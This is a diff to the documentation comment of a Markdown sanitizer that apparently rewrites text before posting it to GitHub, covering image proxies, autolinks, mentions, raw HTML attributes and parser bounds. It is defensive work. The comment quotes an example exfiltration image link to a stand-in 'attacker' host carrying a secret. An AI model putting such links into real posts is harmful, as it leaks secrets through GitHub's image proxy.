@@ -7,10 +7,14 @@
  *   `allowed-domains`) become inline code: GitHub does not render them, so
  *   its image proxy never fetches `![x](https://attacker/?d=SECRET)` and
  *   nobody is one click from leaking. Covered: Markdown images and links,
- *   reference-style ones (their definitions too), `<autolinks>`, bare URLs
- *   GitHub links by itself, `data:` and other non-http schemes, and raw HTML
- *   whose attributes point elsewhere (`<img src>`, `<a href>`,
- *   `<source srcset>`, `<video poster>`, ...).
+ *   reference-style ones (their definitions too), `<autolinks>`, `data:` and
+ *   other non-http schemes, and raw HTML whose attributes point elsewhere
+ *   (`<img src>`, `<a href>`, `<source srcset>`, `<video poster>`, SVG
+ *   `<animate>` values, `on*` handlers, ...).
+ * - In plain text, whatever GitHub's renderer (cmark-gfm) would link by
+ *   itself is decided by what it links, not by what our parser links: any
+ *   `scheme://` (it links `ftp://` too), `www.`, `mailto:`, `xmpp:`, e-mail
+ *   addresses. The word becomes a code span; the prose around it stays.
  * - `@user` and `@org/team` get a zero-width space after the `@`, as
  *   Dependabot does in the release notes it quotes: the text reads the same
  *   and copies almost the same, but GitHub sees no mention and notifies
@@ -25,7 +29,15 @@
  * (parse5), the unsafe parts are rewritten, and the result is parsed again
  * until nothing unsafe is left. A rewrite that could combine with its
  * surroundings into something new is caught by the next pass; if a few
- * passes do not settle, the whole text is posted as one code block.
+ * passes do not settle, each top-level block still unsafe is posted as a
+ * fenced code block (the whole text, if that does not settle either). The
+ * fallback is always code, never an invisible character.
+ *
+ * Bounded: before any parse the text is cut to the length limit and every
+ * construct past a small depth or length is escaped (src/markdown-bounds.ts),
+ * so the cost is linear and no input overflows the stack; a parser that
+ * throws anyway fails closed (the text as a code block).
+ * test/security/posting-corpus.test.ts judges the result as GitHub renders it.
  */
 import type { Html, Nodes, Parent, Text } from "mdast";
 import { boundMarkdown } from "../markdown-bounds.js";
